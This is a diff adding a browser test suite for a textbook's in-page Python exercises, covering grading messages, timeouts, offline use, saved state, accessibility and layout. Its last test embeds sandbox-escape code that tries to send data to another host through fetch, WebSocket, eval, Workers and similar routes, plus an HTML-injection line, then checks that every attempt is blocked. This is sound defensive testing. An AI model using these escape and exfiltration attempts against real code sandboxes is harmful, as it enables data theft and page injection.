@@ -1,0 +1,268 @@
+"""Exercises solved in the page: what a reader writes, what the check says, what is kept, what is refused."""
+
+import gzip
+import json
+import re
+
+import nbformat
+import pytest
+from playwright.sync_api import expect
+
+from scripts.serving import QuietHandler, serve
+from tests.book.axe import AXE, serious_faults
+from tests.book.conftest import CHAPTERS, SITE
+from tests.book.exercise_in_page import Exercise, solution
+
+LABEL = "svm-intercept"
+PAGE, SOLUTION = solution(LABEL)
+HEAD = "def intercept(alpha, X, y, C):\n"
+GROWTH = 8_000  # bytes gzipped by which a page may grow
+
+
+@pytest.fixture(scope="module")
+def reader(visit):
+    """A page with Python in it that has started."""
+    with visit(PAGE) as page:
+        page.before = list(page.asked)
+        exercise = Exercise(page, LABEL).open()
+        exercise.first = exercise.check()
+        yield exercise
+
+
+def test_nothing_is_fetched_before_a_press(reader):
+    assert reader.page.before
+    assert not [url for url in reader.page.before if "/_static/python/" in url]
+
+
+@pytest.mark.parametrize("path", CHAPTERS)
+def test_a_page_grows_by_little(path):
+    text = (SITE / path).read_text()
+    bare = re.sub(r'<div class="in-page [^>]*>.*?</div>\n?| data-python-in-page="[^"]*"', "", text)
+    assert "data-python" in text
+    grown = len(gzip.compress(text.encode(), 6)) - len(gzip.compress(bare.encode(), 6))
+    assert grown <= GROWTH
+
+
+def test_every_coded_exercise_can_be_tried():
+    texts = [(SITE / path).read_text() for path in CHAPTERS]
+    labels = [label for text in texts for label in re.findall('data-exercise="([^"]+)"', text)]
+    assert len(labels) == len(set(labels)) == 50
+
+
+def test_the_stub_says_what_is_missing(reader):
+    assert reader.first == ("wrong", "Nothing is written here yet: replace the `raise NotImplementedError`.")
+
+
+def test_a_wrong_answer_is_told_what_is_wrong_and_shows_its_prints(reader):
+    kind, words = reader.check(HEAD + "    print('alpha is', alpha)\n    return 0.0")
+    assert kind == "wrong"
+    assert words.startswith("hard margin: the answer is 0, expected -3. Hint:")
+    assert reader.printed == "alpha is [0. 2. 2.]\n"
+
+
+def test_an_error_is_told_with_the_reader_s_lines(reader):
+    kind, words = reader.check(HEAD + "    return undefined")
+    assert (kind, "NameError: name 'undefined' is not defined" in words) == ("wrong", True)
+    assert reader.detail.splitlines()[0] == "  your answer, line 2, in intercept"
+    kind, words = reader.check("def intercept(\n    return 1")
+    assert kind == "error"
+    assert words.startswith("SyntaxError")
+
+
+def test_a_right_answer_is_praised_and_counted(reader):
+    assert reader.check(SOLUTION) == (
+        "right",
+        "Right: a free multiplier tells b; without one, b is the middle of an interval.",
+    )
+    expect(reader.page.locator("#book-panel .solved")).to_contain_text("1 of 50 exercises solved")
+    reader.page.locator(".contents-button").click()
+    with reader.page.expect_download() as export:
+        reader.page.locator(".solved").get_by_role("button", name="Export").click()
+    kept = json.loads(export.value.path().read_text())
+    assert kept == {"solved": [LABEL], "answers": {LABEL: SOLUTION}}
+
+
+def test_the_download_is_a_notebook_that_runs(reader):
+    reader.code.fill(SOLUTION)
+    with reader.page.expect_download() as download:
+        reader.button("Download").click()
+    notebook = nbformat.read(download.value.path(), as_version=4)
+    nbformat.validate(notebook)
+    space = {}
+    for cell in notebook.cells:
+        exec(cell.source, space)
+
+
+def test_output_without_end_is_cut(reader):
+    for endless in ("print('long line ' * 100_000)", "for k in range(100_000): print(k)"):
+        assert reader.check(f"{HEAD}    {endless}\n    return 0")[0] == "wrong"
+        assert reader.printed.endswith("more was printed; these are the first 20000 characters\n")
+        assert 20_000 < len(reader.printed) < 20_100
+
+
+def test_full_memory_is_said(reader):
+    kind, words = reader.check(HEAD + "    return [np.empty(2**28 - 100) for _ in range(3)]")
+    assert kind == "wrong"
+    assert "Unable to allocate" in words
+    assert reader.check(SOLUTION)[0] == "right"
+
+
+def test_a_loop_without_end_is_stopped_and_python_wakes_again(reader):
+    kind, words = reader.check(HEAD + "    while True: pass")
+    assert (kind, words) == ("error", "Stopped after 10 seconds. Is there a loop that never ends?")
+    assert reader.check(SOLUTION)[0] == "right"
+    assert reader.times["woken"]
+
+
+def test_the_reader_can_stop_it(reader):
+    reader.code.fill(HEAD + "    while True: pass")
+    reader.button("Check").click()
+    reader.page.wait_for_function(
+        "() => document.querySelector('.verdict').textContent.startsWith('Running')"
+    )
+    reader.button("Stop").click()
+    expect(reader.status).to_have_text("Stopped.")
+    assert reader.check(SOLUTION)[0] == "right"
+
+
+def test_without_a_connection_the_next_answer_is_checked_too(reader):
+    reader.page.context.set_offline(True)
+    try:
+        assert reader.check(HEAD + "    return 1.0")[0] == "wrong"
+    finally:
+        reader.page.context.set_offline(False)
+
+
+def test_text_is_kept_and_a_later_page_wakes_the_kept_state(reader):
+    reader.check(SOLUTION)
+    reader.page.reload()
+    expect(reader.page.locator(".solved")).to_contain_text("1 of 50")
+    expect(reader.place).to_have_class(re.compile("is-solved"))
+    reader.open()
+    assert reader.code.input_value() == SOLUTION
+    assert reader.check()[0] == "right"
+    assert reader.times["woken"]
+
+
+def test_reset_brings_the_stub_back_and_can_be_undone(reader):
+    reader.button("Reset").click()
+    assert reader.code.input_value().startswith(HEAD + '    """The intercept."""\n')
+    assert reader.status.inner_text() == ""
+    reader.page.keyboard.press("Control+z")
+    assert reader.code.input_value() == SOLUTION
+
+
+IS_KEPT = """async () => {
+  const store = await caches.open("python in the page"), [key] = await store.keys();
+  return key && Boolean(await store.match(key));
+}"""
+DAMAGE = """async kind => {
+  const store = await caches.open("python in the page"), [key] = await store.keys();
+  const kept = await store.match(key), bytes = new Uint8Array(await kept.arrayBuffer());
+  if (kind === "a byte") bytes[5_000_000] ^= 1;
+  const damaged = kind === "cut" ? bytes.slice(0, 1000) : bytes;
+  await store.put(key, new Response(damaged, { headers: kept.headers }));
+}"""
+
+
+@pytest.mark.parametrize("kind", ["a byte", "cut"])
+def test_a_damaged_state_is_thrown_away(reader, kind):
+    reader.page.evaluate(DAMAGE, kind)
+    reader.page.reload()
+    assert reader.open().check(SOLUTION)[0] == "right"
+    assert not reader.times["woken"]
+    reader.page.wait_for_function(
+        "caches.open('python in the page').then(store => store.keys()).then(k => k.length)"
+    )
+
+
+def test_by_keyboard_alone(reader):
+    page = reader.page
+    page.reload()
+    reader.button("Try it here").focus()
+    page.keyboard.press("Enter")
+    expect(reader.code).to_be_focused()
+    page.keyboard.press("Control+a")
+    page.keyboard.type("def intercept(alpha, X, y, C):\nreturn 1 +\n")
+    assert reader.code.input_value() == HEAD + "    return 1 +\n    "
+    page.keyboard.press("Shift+Tab")
+    page.keyboard.press("Tab")
+    assert reader.code.input_value() == HEAD + "    return 1 +\n    "
+    page.keyboard.press("Escape")
+    page.keyboard.press("Tab")
+    expect(reader.button("Check")).to_be_focused()
+    page.keyboard.press("Shift+Tab")
+    assert reader.check(press=lambda: page.keyboard.press("Control+Enter"))[0] == "error"
+
+
+def test_the_open_exercise_is_accessible(reader):
+    reader.page.evaluate(AXE.read_text())
+    assert not serious_faults(reader.page, "open", f"[data-exercise={LABEL}]")
+    assert reader.code.get_attribute("aria-label") == "Your answer to Exercise 1.1 (The intercept · code ★)"
+
+
+@pytest.mark.parametrize("theme", ["light", "dark"])
+@pytest.mark.parametrize("width", [390, 320])
+def test_nothing_is_wider_than_a_narrow_screen(reader, width, theme):
+    page = reader.page
+    page.set_viewport_size({"width": width, "height": 844})
+    page.emulate_media(color_scheme=theme)
+    reader.check(HEAD + f"    return {'long_name' * 12}")
+    assert page.evaluate("document.documentElement.scrollWidth") <= width
+    for name in ("Check", "Reset", "Download"):
+        box = reader.button(name).bounding_box()
+        assert box["x"] >= 0
+        assert box["x"] + box["width"] <= width
+
+
+HOSTILE = (
+    HEAD
+    + """
+    import js, pyodide_js, sys
+    address = "{address}/stolen"
+    def tried(way):
+        try:
+            way()
+        except BaseException as reason:
+            print(type(reason).__name__)
+        else:
+            print("open")
+    tried(lambda: js.fetch(address))
+    tried(lambda: js.XMLHttpRequest.new().open("GET", address))
+    tried(lambda: js.WebSocket.new(address.replace("http", "ws")))
+    tried(lambda: js.importScripts(address))
+    tried(lambda: js.eval(f"import('{{address}}')"))
+    tried(lambda: js.Function(f"return import('{{address}}')")())
+    tried(lambda: js.setTimeout(f"import('{{address}}')", 0))
+    tried(lambda: pyodide_js.runPython.constructor(f"return import('{{address}}')")())
+    tried(lambda: js.Object.getPrototypeOf(js.Object.getPrototypeOf(js.self)).fetch(address))
+    tried(lambda: js.Worker.new("data:text/javascript,fetch('{address}')"))
+    tried(lambda: js.caches.open("python in the page"))
+    tried(lambda: js.indexedDB.open("x"))
+    tried(lambda: js.document.body)
+    tried(lambda: js.localStorage.length)
+    print("<img src={address}/stolen onerror=alert(1)>")
+    raise ValueError("<b>bold</b>")
+"""
+)
+
+
+def test_hostile_code_reaches_neither_another_host_nor_the_page(reader):
+    hits = []
+
+    class Canary(QuietHandler):
+        def do_GET(self):  # noqa: N802
+            hits.append(self.path)
+            self.send_body(b"", "text/plain", Access_Control_Allow_Origin="*")
+
+    with serve(SITE, Canary) as elsewhere:
+        kind, words = reader.check(HOSTILE.format(address=elsewhere))
+        lines = reader.printed.splitlines()
+        reader.page.wait_for_timeout(300)  # for a request that was not refused to arrive
+    assert not hits
+    assert "open" not in lines
+    assert len(lines) == 15
+    assert (kind, "<b>bold</b>" in words) == ("wrong", True)
+    assert reader.place.locator("img, b").count() == 0
+    assert lines[-1].startswith("<img")
+    assert reader.check(SOLUTION)[0] == "right"
